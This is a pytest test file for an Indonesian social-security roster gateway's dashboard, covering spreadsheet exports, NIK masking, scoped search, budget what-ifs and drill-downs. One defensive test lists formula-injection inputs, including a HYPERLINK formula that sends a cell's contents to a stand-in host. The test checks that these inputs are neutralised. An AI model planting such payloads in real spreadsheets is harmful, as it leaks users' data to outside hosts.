"""The clerk's and compliance staff's tools of issue 21, through real requests on the seeded
gateway (tests/web/conftest.py: Muaro Jambi 15.05 short of budget, DKI Jakarta 31): every
list exported as .xlsx (formula injection neutralised, NIK masked, the user's scope kept), a
NIK searched across agencies, a what-if on the budget page that writes nothing, and the
drill-down from a province to its regencies and cities.
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from gateway.budget.check import WageScenario, check_budget
from gateway.budget.rates import load_packages, load_schedule
from gateway.demo.rosters import generate_roster, write_csv
from gateway.domain.agencies import resolve_agency
from gateway.roster.submit import submit_roster
from gateway.store import audit, dashboard
from gateway.store.users import create_user
from gateway.web.export import Column, key, write_xlsx
from gateway.web.i18n import fmt_rp
from tests.helpers.web import PASSWORD, csrf_of, log_in

MASKED = re.compile(r"\d{6}\*{6}\d{4}")
WHOLE_NIK = re.compile(r"(?<!\d)\d{16}(?!\d)")


def _client(web_app: Any, username: str = "siti") -> Any:
    client = web_app.test_client()
    assert log_in(client, username=username).status_code == 302
    return client


def _book(response: Any) -> Any:
    assert response.status_code == 200, response.status_code
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    return load_workbook(io.BytesIO(response.data))


def _shared_worker(web_app: Any, tmp_path: Path) -> str:
    """Three of DKI Jakarta's workers enrolled by Provinsi Jambi (15) too; the first's NIK."""
    rows = list(generate_roster(80, seed=31, province="31"))[:3]
    path = tmp_path / "roster_15.csv"
    write_csv(path, iter(rows))
    registry = web_app.extensions["jamsos"].registry
    with web_app.app_context():
        submit_roster(registry, path, agency=resolve_agency("15"), today=date.today(),
                      trigger="cli")
        create_user(registry.engine, "rini", PASSWORD, agency="15.05")
        create_user(registry.engine, "jambi", PASSWORD, agency="15")
    return rows[0]["NIK"]


# -- exports --------------------------------------------------------------------------------------


def test_every_list_page_links_its_xlsx_export_and_it_opens(web_app: Any, staff: Any) -> None:
    run = web_app.config["SEEDED"]["runs"]["15.05"]
    pages = {
        "/dashboard/feeds": "/dashboard/feeds.xlsx",
        "/dashboard/runs?agency=15.05": "/dashboard/runs.xlsx?agency=15.05",
        f"/dashboard/runs/{run}": f"/dashboard/runs/{run}/problems.xlsx",
        "/dashboard/agencies/15.05": "/dashboard/agencies/15.05/workers.xlsx?status=active",
        "/dashboard/budget": "/dashboard/budget.xlsx?year=",
        "/dashboard/coverage": "/dashboard/coverage.xlsx",
        "/dashboard/identity-conflicts": "/dashboard/identity-conflicts.xlsx",
    }
    for page, export in pages.items():
        html = staff.get(page).text
        link = re.search(r'id="export-xlsx" href="([^"]+)"', html)
        assert link, page
        href = link.group(1).replace("&amp;", "&")
        assert href.startswith(export), (page, href)
        book = _book(staff.get(href))
        assert book.sheetnames[-1] == "Keterangan"
        assert book.worksheets[0].max_column >= 4
    # What the lists hold: the same rows as the pages.
    workers = _book(staff.get("/dashboard/agencies/15.05/workers.xlsx")).worksheets[0]
    rows = list(workers.iter_rows(values_only=True))
    active = dashboard.agency_status_counts(web_app.extensions["jamsos"].engine, "15.05")
    assert rows[0][0] == "NIK" and len(rows) - 1 == active["active"]
    assert all(MASKED.fullmatch(r[0]) for r in rows[1:])
    problems = list(_book(staff.get(f"/dashboard/runs/{run}/problems.xlsx?severity=error"))
                    .worksheets[0].iter_rows(values_only=True))
    assert len(problems) > 1 and all(isinstance(r[0], int) for r in problems[1:])
    budget = list(_book(staff.get("/dashboard/budget.xlsx")).worksheets[0]
                  .iter_rows(values_only=True))
    muaro = next(r for r in budget if r[1] == "15.05")
    assert muaro[2] == "kurang" and isinstance(muaro[7], int) and muaro[7] > 0  # shortfall


def test_an_export_writes_formulas_as_text_and_masks_niks(web_app: Any) -> None:
    hostile = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "+62811", "-1+1", "@SUM(A1)",
               "\tcmd", "\r=1", "Guru\x07 Honorer"]
    rows = [{"nik": "1505014101900001", "text": t, "n": i} for i, t in enumerate(hostile)]
    out = io.BytesIO()
    with web_app.test_request_context("/dashboard/"):
        written = write_xlsx(out, [Column("NIK", key("nik"), "nik"), Column("Teks", key("text")),
                                   Column("N", key("n"), "int")], rows, sheet="Uji")
    assert written == len(hostile)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    data = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    cells = list(data.iter_rows(min_row=2))
    assert [c[1].value for c in cells][:6] == hostile[:6]  # kept as typed, as text
    assert all(c[1].data_type == "s" and c[1].quotePrefix for c in cells[:6])
    assert cells[6][1].value == "Guru Honorer"  # a control character XML cannot hold
    assert all(c[0].value == "150501******0001" for c in cells)
    assert all(c[2].data_type == "n" for c in cells)  # numbers stay numbers


def test_exports_keep_the_users_scope(web_app: Any, tmp_path: Path) -> None:
    _shared_worker(web_app, tmp_path)
    bound = _client(web_app, "rini")
    assert bound.get("/dashboard/agencies/31/workers.xlsx").status_code == 404
    assert bound.get("/dashboard/identity-conflicts.xlsx").status_code == 404
    runs = _book(bound.get("/dashboard/runs.xlsx?agency=31")).worksheets[0]
    agencies = {r[2] for r in runs.iter_rows(min_row=2, values_only=True)}
    assert agencies == {"15.05"}  # its own runs, whatever the filter asks
    budget = _book(bound.get("/dashboard/budget.xlsx")).worksheets[0]
    assert {r[1] for r in budget.iter_rows(min_row=2, values_only=True)} == {"15.05"}
    other = web_app.config["SEEDED"]["runs"]["31"]
    assert bound.get(f"/dashboard/runs/{other}/problems.xlsx").status_code == 404
    assert web_app.test_client().get("/dashboard/budget.xlsx").status_code == 302  # log in


# -- NIK search across agencies -------------------------------------------------------------------


def _search(client: Any, nik: str) -> Any:
    token = csrf_of(client.get("/dashboard/workers").text)
    return client.post("/dashboard/workers", data={"nik": nik, "csrf_token": token})


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_staff_find_a_nik_across_agencies_within_their_scope(web_app: Any,
                                                             tmp_path: Path) -> None:
    nik = _shared_worker(web_app, tmp_path)
    national = _search(_client(web_app), f" {nik[:6]} {nik[6:]} ")  # typed with a space
    assert national.status_code == 200
    found = national.text.split('id="worker-found"', 1)[1]
    assert "/dashboard/agencies/31" in found and "/dashboard/agencies/15" in found
    assert f"{nik[:6]}******{nik[-4:]}" in found and nik not in national.text
    assert "belum dikirim" in found  # what BPJS was told of each enrolment: nothing yet
    # A user bound to Provinsi Jambi sees Jambi's enrolment only, not Jakarta's.
    jambi = _search(_client(web_app, "jambi"), nik).text
    assert "/dashboard/agencies/15" in jambi and "/dashboard/agencies/31" not in jambi
    # Bound to Muaro Jambi, which does not enrol them: not found, nothing about the others.
    rini = _search(_client(web_app, "rini"), nik).text
    assert 'id="not-found"' in rini and "/dashboard/agencies/31" not in rini
    assert "tidak terdaftar di instansi Anda" in rini
    # A mistyped NIK is refused, and not echoed back.
    bad = _search(_client(web_app), "15050141019X0001")
    assert bad.status_code == 400 and "16 angka" in bad.text and "15050141019X0001" not in bad.text
    # Each search is on the audit log, without the NIK.
    entries = [e for e in audit.recent(web_app.extensions["jamsos"].engine)
               if e["action"] == "worker_lookup"]
    assert len(entries) == 3 and {e["actor"] for e in entries} == {"siti", "jambi", "rini"}
    assert not any(nik in (e["details"] + e["subject"]) for e in entries)
    assert '"agencies_shown": 2' in next(e for e in entries if e["actor"] == "siti")["details"]


# -- what-if on the budget page -------------------------------------------------------------------


def _what_if_cell(html: str, label: str) -> str:
    table = html.split('id="what-if-result"', 1)[1].split("</table>", 1)[0]
    row = re.search(rf'<th scope="row">{label}</th>(.*?)</tr>', table, re.S)
    assert row, label
    return re.findall(r"<td[^>]*>(.*?)</td>", row.group(1), re.S)[1].strip()


def test_the_budget_what_if_recomputes_and_writes_nothing(web_app: Any, staff: Any) -> None:
    engine = web_app.extensions["jamsos"].engine
    year = date.today().year
    before = (dashboard.registry_stamp(engine), dashboard.budget_stamps(engine, year),
              audit.count(engine))
    page = staff.get(f"/dashboard/budget/15.05?year={year}&what_if_raise=10"
                     "&what_if_min_wage=3.500.000")
    assert page.status_code == 200
    with web_app.app_context():
        expected = check_budget(engine, "15.05", year, schedule=load_schedule(),
                                packages=load_packages(),
                                scenario=WageScenario(raise_percent=10, minimum_wage=3_500_000))
        base = check_budget(engine, "15.05", year, schedule=load_schedule(),
                            packages=load_packages())
    assert expected.obligation > base.obligation
    with web_app.test_request_context("/?lang=id"):
        assert _what_if_cell(page.text, "Kewajiban") == fmt_rp(expected.obligation)
        assert _what_if_cell(page.text, "Kekurangan") == fmt_rp(expected.gap)
    # Twice the headcount: about twice the obligation, the same allocation.
    doubled = staff.get(f"/dashboard/budget/15.05?year={year}"
                        f"&what_if_headcount={2 * base.workers}").text
    shown = int(re.sub(r"\D", "", _what_if_cell(doubled, "Kewajiban")))
    assert abs(shown - 2 * base.obligation) <= len(base.lines)
    assert _what_if_cell(doubled, "Pekerja") == str(2 * base.workers)
    assert (dashboard.registry_stamp(engine), dashboard.budget_stamps(engine, year),
            audit.count(engine)) == before  # nothing written
    wrong = staff.get("/dashboard/budget/15.05?what_if_raise=sepuluh")
    assert wrong.status_code == 400 and "Kenaikan upah harus angka" in wrong.text
    assert 'id="what-if-result"' not in wrong.text


# -- drill-down -----------------------------------------------------------------------------------


def test_a_province_drills_down_to_its_regencies(web_app: Any, staff: Any,
                                                 tmp_path: Path) -> None:
    coverage = staff.get("/dashboard/coverage").text
    assert 'href="/dashboard/coverage?province=15"' in coverage
    assert 'href="/dashboard/coverage?province=15"' in staff.get("/dashboard/").text
    jambi = staff.get("/dashboard/coverage?province=15")
    assert jambi.status_code == 200
    assert '<span class="code">15.05</span>' in jambi.text  # Muaro Jambi
    assert '<span class="code">31</span>' not in jambi.text  # not Jakarta
    assert 'id="all-provinces"' in jambi.text
    sheet = _book(staff.get("/dashboard/coverage.xlsx?province=15")).worksheets[0]
    assert {r[2] for r in sheet.iter_rows(min_row=2, values_only=True)} == {"15", "15.05"}
    for wrong in ("15.05", "99", "kemenkes"):
        assert staff.get(f"/dashboard/coverage?province={wrong}").status_code == 404, wrong
    _shared_worker(web_app, tmp_path)
    assert _client(web_app, "rini").get("/dashboard/coverage?province=15").status_code == 404


# -- Indonesian first on every screen -------------------------------------------------------------

INTERNAL = re.compile(r"\b(honorer|pekerja_rentan|aparat_desa|pendamping_desa|rt_rw|birth_date|"
                      r"start_date|work_unit)\b|\((cli|web|api|airflow)\)|>OK<")


def test_screens_speak_indonesian_not_internal_ids(web_app: Any, staff: Any) -> None:
    run = web_app.config["SEEDED"]["runs"]["15.05"]
    for path in ("/dashboard/", "/dashboard/feeds", "/dashboard/runs", f"/dashboard/runs/{run}",
                 "/dashboard/agencies/15.05?status=all", "/dashboard/budget",
                 "/dashboard/budget/15.05", "/dashboard/coverage", "/dashboard/upload"):
        page = staff.get(path).text
        visible = re.sub(r"<[^>]+>", " ", re.sub(r"<(script|title)\b.*?</\1>", " ", page,
                                                  flags=re.S))  # fmt: skip
        shown = INTERNAL.search(visible)
        assert shown is None, (path, shown.group(0) if shown else None)
        assert "Langsung ke isi halaman" in page  # the skip link, in Indonesian first
    agency = staff.get("/dashboard/agencies/15.05?status=all").text
    assert "Honorer" in agency
    assert "baris perintah" in staff.get(f"/dashboard/runs/{run}").text  # sent by `jamsos`


def test_only_a_role_named_for_it_reads_whole_niks_in_an_export(
        web_app: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """No role of docs/design.md §7 may: viewers and operators get masked NIKs. A role given
    the right in web/export.py (NIK_WHOLE_ROLES), and only it, gets them whole."""
    with web_app.app_context():
        create_user(web_app.extensions["jamsos"].engine, "opa", PASSWORD, role="operator")
    operator = _client(web_app, "opa")
    niks = [r[0] for r in _book(operator.get("/dashboard/agencies/31/workers.xlsx"))
            .worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert niks and all(MASKED.fullmatch(n) for n in niks)
    monkeypatch.setattr("gateway.web.export.NIK_WHOLE_ROLES", frozenset({"operator"}))
    whole = [r[0] for r in _book(operator.get("/dashboard/agencies/31/workers.xlsx"))
             .worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert all(WHOLE_NIK.fullmatch(n) for n in whole)
    assert [f"{n[:6]}******{n[-4:]}" for n in whole] == niks
    viewer = _book(_client(web_app).get("/dashboard/agencies/31/workers.xlsx")).worksheets[0]
    assert all(MASKED.fullmatch(r[0]) for r in viewer.iter_rows(min_row=2, values_only=True))
